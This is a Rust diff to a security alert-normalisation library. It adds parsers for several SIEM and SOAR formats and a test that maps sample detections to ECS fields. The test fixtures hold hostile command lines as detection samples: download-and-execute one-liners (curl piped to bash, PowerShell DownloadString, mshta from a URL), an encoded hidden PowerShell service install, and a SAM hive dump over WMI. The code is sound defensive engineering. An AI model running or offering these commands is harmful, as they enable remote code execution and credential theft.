@@ -14,6 +14,7 @@ mod xdr;
 use crate::funcs;
 use serde_json::{Map, Value as Json};
 use sha2::{Digest, Sha256};
+use std::borrow::Cow;
 
 /// One normalised alert.
 #[derive(Clone, Debug, PartialEq)]
@@ -232,9 +233,24 @@ const SPLITTERS: &[(Splitter, (&str, &str), &str)] = &[
         "the search holds {total} events; the first {max} were taken as alerts and these were not: narrow the search to run them",
     ),
     (
+        edr::secops_detections_page,
+        ("detection", "detections"),
+        "the listing holds {total} detections; the first {max} were taken as alerts and these were not: page the listing (pageToken) to run them",
+    ),
+    (
         edr::sumo_messages_page,
         ("message", "messages"),
         "the page holds {total} messages; the first {max} were taken as alerts and these were not: page the search job (offset, limit) to run them",
+    ),
+    (
+        edr::cortex_xdr_reply,
+        ("alert", "alerts"),
+        "the reply holds {total} alerts; the first {max} were taken as alerts and these were not: page the query (search_from, search_to) to run them",
+    ),
+    (
+        edr::sumo_monitor_results,
+        ("result", "results"),
+        "the monitor's webhook holds {total} results; the first {max} were taken as alerts and these were not: lower the monitor's result limit or split its query to run them",
     ),
     (
         edr::log_analytics_rows,
@@ -323,12 +339,19 @@ pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAle
     }
     // Documents that hold several alerts of one kind: a Graylog event notification (one per
     // backlogged message), OpenSearch Security Analytics findings (one per finding's matched
-    // document), an osquery snapshot (one per row).
+    // document), an osquery snapshot (one per row), also when a SOAR's envelope carries them.
     if let Json::Object(o) = &doc {
-        for (split, names, reason) in SPLITTERS {
-            if let Some(docs) = split(o) {
-                let total = docs.len();
-                return each_capped(docs.into_iter(), total, position, *names, reason, &doc);
+        let mut inner = Cow::Borrowed(o);
+        for depth in 0..5 {
+            for (split, names, reason) in SPLITTERS {
+                if let Some(docs) = split(&inner) {
+                    let total = docs.len();
+                    return each_capped(docs.into_iter(), total, position, *names, reason, &doc);
+                }
+            }
+            match siem::unwrap_envelope(&inner) {
+                Some(opened) if depth < 4 => inner = Cow::Owned(opened),
+                _ => break,
             }
         }
     }
@@ -650,6 +673,21 @@ pub fn expand(obj: Map<String, Json>) -> Map<String, Json> {
 /// (`event.exec.target.executable.path`), a multi-value one with spath's `{}` (`args{}`). They
 /// are nested back into the event's own shape, so the event's reader knows it; a dotted name
 /// whose head is already a plain field (CIM's `process`) stays as it is.
+/// The fields Splunk adds to every event it indexes.
+const SPLUNK_META: &[&str] = &[
+    "host",
+    "source",
+    "sourcetype",
+    "index",
+    "splunk_server",
+    "linecount",
+    "punct",
+    "eventtype",
+    "tag",
+    "timestartpos",
+    "timeendpos",
+];
+
 fn splunk_row(row: Map<String, Json>) -> Map<String, Json> {
     let mut out = Map::new();
     let mut dotted = Vec::new();
@@ -702,6 +740,21 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
             .into_iter()
             .filter_map(|k| Some((k, obj.get(k)?.as_str()?.to_owned())))
             .collect();
+        // A row that is only Splunk's metadata and the fields it extracted around a JSON
+        // event (`_raw`, as HEC indexed it): the event itself, which its own reader knows.
+        if let Some(inner) = obj.get("_raw").and_then(siem::json_text)
+            && obj.keys().all(|k| {
+                k.starts_with('_') || SPLUNK_META.contains(&k.as_str()) || inner.contains_key(k)
+            })
+        {
+            obj = inner;
+            for _ in 0..4 {
+                match siem::unwrap_envelope(&obj) {
+                    Some(inner) => obj = inner,
+                    None => break,
+                }
+            }
+        }
     }
     // Elasticsearch hit
     if let Some(Json::Object(src)) = obj.get("_source").cloned() {
@@ -3621,6 +3674,116 @@ mod tests {
         assert_eq!(
             snare.doc["process"]["parent"]["command_line"],
             "C:\\WINDOWS\\system32\\services.exe"
+        );
+    }
+
+    #[test]
+    fn qradar_rows_sentinel_incidents_and_enveloped_pages_map_to_ecs() {
+        // QRadar rows of one auditd record (SYSCALL, EXECVE) merged: the program from one, the
+        // arguments from the other.
+        let rows = json!({"events": [
+            {"qidname_qid": "Linux Audit: execveat", "logsourcename_logsourceid": "LinuxAuditd @ web-1", "username": "www-data",
+             "Process Name": "/memfd: (deleted)", "Process Command Line": null,
+             "utf8_payload": "type=SYSCALL msg=audit(1738276402.118:55): syscall=322 ppid=1 pid=9 exe=\"/memfd: (deleted)\""},
+            {"qidname_qid": "Linux Audit: Execve Arguments", "logsourcename_logsourceid": "LinuxAuditd @ web-1",
+             "Process Command Line": "[kworker/u8:3-events]", "utf8_payload": "type=EXECVE msg=audit(1738276402.118:55): argc=1 a0=\"[kworker/u8:3-events]\""}]});
+        let a = from_json(rows, "x").unwrap();
+        assert_eq!(a.doc["process"]["executable"], "/memfd: (deleted)");
+        assert_eq!(a.doc["process"]["command_line"], "[kworker/u8:3-events]");
+        assert_eq!(a.doc["user"]["name"], "www-data");
+        // A row of a Windows event with QRadar's own column names (a 7045 service install), a
+        // sudo line tagged with its process id, and an NXLog event as JSON in the payload.
+        let svc = from_json(json!({"events": [{"qid": 5000845, "Event ID": "7045", "Service Name": "7f3ab21",
+            "Service File Name": "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc SQBFAFgA",
+            "LOGSOURCENAME(logsourceid)": "WindowsAuthServer @ DC01"}]}), "x").unwrap();
+        assert_eq!(svc.doc["event"]["action"], "service-installed");
+        assert_eq!(svc.doc["process"]["parent"]["name"], "services.exe");
+        assert_eq!(svc.doc["host"]["name"], "DC01");
+        let sudo = from_json(json!({"events": [{"qidname_qid": "sudo Command", "logsourcename_logsourceid": "LinuxServer @ db-3",
+            "utf8_payload": "<85>Mar 13 13:05:03 db-3 sudo[1184371]: svc : TTY=unknown ; PWD=/home/svc ; USER=root ; COMMAND=/bin/sh -c id"}]}), "x").unwrap();
+        assert_eq!(sudo.doc["process"]["command_line"], "/bin/sh -c id");
+        assert_eq!(sudo.doc["user"]["name"], "svc");
+        let nx = from_json(json!({"events": [{"qidname_qid": "Process Create", "logsourcename_logsourceid": "NXLog @ WS-1",
+            "utf8_payload": "{\"EventID\":1,\"SourceName\":\"Microsoft-Windows-Sysmon\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"WS-1\",\"Image\":\"C:\\\\Users\\\\u\\\\ucheck.exe\",\"CommandLine\":\"ucheck.exe -w hidden -c iex x\",\"OriginalFileName\":\"PowerShell.EXE\"}"}]}), "x").unwrap();
+        assert_eq!(
+            nx.doc["process"]["command_line"],
+            "ucheck.exe -w hidden -c iex x"
+        );
+        assert_eq!(
+            nx.doc["process"]["pe"]["original_file_name"],
+            "PowerShell.EXE"
+        );
+        // Exabeam's event with only its raw log line (a 4104 as XML).
+        let exa = from_json(json!({"alertId": "a1", "name": "x", "events": [{"event_code": "4104", "host": "LT-1", "process_name": null,
+            "rawLogs": ["<Event><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Computer>LT-1</Computer></System><EventData><Data Name='ScriptBlockText'>iex (New-Object Net.WebClient).DownloadString('http://x/y')</Data></EventData></Event>"]}]}), "x").unwrap();
+        assert_eq!(
+            exa.doc["powershell"]["file"]["script_block_text"],
+            "iex (New-Object Net.WebClient).DownloadString('http://x/y')"
+        );
+        // A Sentinel incident from its automation trigger: processes as entities, no lineage;
+        // the newest is judged, the WMI host that started the others is its parent.
+        let inc = json!({"objectSchemaType": "Incident", "object": {"name": "n1", "properties": {"title": "Remote WMI", "incidentNumber": 20817,
+            "additionalData": {"techniques": ["T1047"]},
+            "relatedEntities": [
+                {"kind": "Account", "properties": {"accountName": "adm-x", "ntDomain": "CORP"}},
+                {"kind": "Host", "properties": {"hostName": "FS02", "osFamily": "Windows"}},
+                {"kind": "Process", "properties": {"processId": "3364", "commandLine": "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "creationTimeUtc": "2025-05-07T13:17:30Z"}},
+                {"kind": "Process", "properties": {"processId": "7720", "commandLine": "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", "creationTimeUtc": "2025-05-07T13:17:31Z"}},
+                {"kind": "Process", "properties": {"processId": "8012", "commandLine": "cmd.exe /Q /c reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", "creationTimeUtc": "2025-05-07T13:19:04Z"}},
+                {"kind": "Ip", "properties": {"address": "10.30.14.166", "additionalData": {"Direction": "Inbound"}}}]}}});
+        let i = from_json(inc, "x").unwrap();
+        assert_eq!(i.id, "20817");
+        assert_eq!(i.doc["process"]["pid"], 8012);
+        assert_eq!(i.doc["process"]["parent"]["name"], "wmiprvse.exe");
+        assert!(
+            i.doc["process"]["command_line"]
+                .as_str()
+                .unwrap()
+                .contains("cd \\ 1>")
+        );
+        assert_eq!(i.doc["user"]["name"], "adm-x");
+        assert_eq!(i.doc["source"]["ip"], "10.30.14.166");
+        assert_eq!(i.doc["threat"]["technique"]["id"], json!(["T1047"]));
+        // Pages inside SOAR envelopes: Cortex XDR's reply under a polling trigger's `event`,
+        // SecOps detections, a Sumo monitor's results; a Tines action's event; a Splunk
+        // webhook row that is only metadata around a JSON event.
+        let xdr = json!({"trigger": {"type": "scheduled_poll"}, "event": {"reply": {"total_count": 1, "alerts": [{"alert_id": "188204", "host_name": "LT-9",
+            "events": [{"actor_process_image_path": "C:\\Windows\\System32\\cmd.exe", "actor_process_command_line": "cmd.exe /c start rundll32.exe javascript:x",
+                "action_process_image_path": "C:\\Windows\\System32\\rundll32.exe", "action_process_image_command_line": "rundll32.exe javascript:x"}]}]}}});
+        let got = from_json_expanded(xdr, "x");
+        assert_eq!(got.len(), 1);
+        let x = got[0].as_ref().unwrap();
+        assert_eq!(x.doc["process"]["name"], "rundll32.exe");
+        assert_eq!(x.doc["process"]["parent"]["name"], "cmd.exe");
+        let det = json!({"detections": [{"detection": [{"ruleName": "clickfix", "ruleLabels": [{"key": "mitre_attack_technique", "value": "T1218.005"}]}],
+            "collectionElements": [{"label": "proc", "references": [{"event": {"metadata": {"eventType": "PROCESS_LAUNCH"},
+                "principal": {"hostname": "LT-2", "process": {"file": {"fullPath": "C:\\Windows\\explorer.exe"}}},
+                "target": {"process": {"file": {"fullPath": "C:\\Windows\\System32\\mshta.exe"}, "commandLine": "mshta https://x/v.hta"}}}}]}]}], "nextPageToken": ""});
+        let d = from_json_expanded(det, "x").remove(0).unwrap();
+        assert_eq!(d.doc["process"]["command_line"], "mshta https://x/v.hta");
+        assert_eq!(d.doc["threat"]["technique"]["id"], json!(["T1218.005"]));
+        let sumo = json!({"Name": "curl|bash", "ResultsJson": [
+            {"_messagetime": 1, "_sourcehost": "dev-1", "_raw": "{\"hostIdentifier\":\"dev-1\",\"name\":\"pe\",\"action\":\"added\",\"columns\":{\"cmdline\":\"curl -o- https://x/i.sh\",\"path\":\"/usr/bin/curl\",\"pid\":\"7\",\"parent\":\"1\"}}"},
+            {"_messagetime": 2, "_sourcehost": "dev-1", "_raw": "{\"hostIdentifier\":\"dev-1\",\"name\":\"pe\",\"action\":\"added\",\"columns\":{\"cmdline\":\"bash\",\"path\":\"/usr/bin/bash\",\"pid\":\"8\",\"parent\":\"1\"}}"}]});
+        let got = from_json_expanded(sumo, "x");
+        assert_eq!(got.len(), 2);
+        assert_eq!(
+            got[1].as_ref().unwrap().doc["process"]["command_line"],
+            "bash"
+        );
+        let tines = json!({"receive_forward": {"body": {"source": "fwd", "detection": {"title": "t"}, "event": {
+            "machine_id": "M1", "event_time": "2025-05-28T21:14:03Z", "execution": {"decision": "DECISION_ALLOW",
+                "instigator": {"executable": {"path": "/usr/local/munki/python"}}, "target": {"executable": {"path": "/bin/bash"}}, "args": ["L2Jpbi9iYXNo", "L3RtcC94LnNo"]}}},
+            "headers": {}, "method": "post", "query_parameters": {}}});
+        let t = from_json(tines, "x").unwrap();
+        assert_eq!(t.doc["process"]["command_line"], "/bin/bash /tmp/x.sh");
+        let splunk = json!({"sid": "s1", "search_name": "fwd", "result": {"_time": "1", "host": "MBA-1", "sourcetype": "jamf", "index": "edr",
+            "input.eventType": "GPProcessEvent",
+            "_raw": "{\"caid\":\"c\",\"input\":{\"eventType\":\"GPProcessEvent\",\"host\":{\"hostname\":\"MBA-1\"},\"match\":{\"uuid\":\"u1\",\"event\":{\"pid\":9},\"facts\":[]},\"related\":{\"processes\":[{\"pid\":9,\"ppid\":1,\"path\":\"/bin/bash\",\"args\":[\"/bin/bash\",\"-c\",\"curl -fsSL https://x/a | bash\"]}]}}}"}});
+        let j = from_json(splunk, "x").unwrap();
+        assert_eq!(
+            j.doc["process"]["command_line"],
+            "/bin/bash -c \"curl -fsSL https://x/a | bash\""
         );
     }
 
